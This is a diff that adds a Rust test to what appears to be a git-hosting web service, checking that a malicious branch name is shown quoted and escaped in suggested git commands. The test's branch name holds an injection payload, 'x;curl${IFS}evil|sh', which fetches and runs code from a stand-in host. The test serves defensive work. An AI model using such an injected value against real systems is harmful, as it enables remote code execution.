@@ -107,6 +107,16 @@ fn bytes_that_are_no_text_are_replaced_and_still_lead_to_their_file() {
 }
 
 #[test]
+fn a_branch_is_no_command() {
+    let Some(site) = TestSite::new("commands") else { return };
+    let path = site.repository("r.git", b"");
+    site.git.ok(&path, ["symbolic-ref", "HEAD", "refs/heads/x;curl${IFS}evil|sh"]);
+    let page = site.visitor().page("/r.git");
+    assert!(page.contains("git init -b &#39;x;curl${IFS}evil|sh&#39;\n"), "{page}");
+    assert!(page.contains("git push -u origin &#39;x;curl${IFS}evil|sh&#39;<"), "{page}");
+}
+
+#[test]
 fn a_host_is_not_believed() {
     let Some(site) = TestSite::new("host") else { return };
     site.repository("r.git", b"");
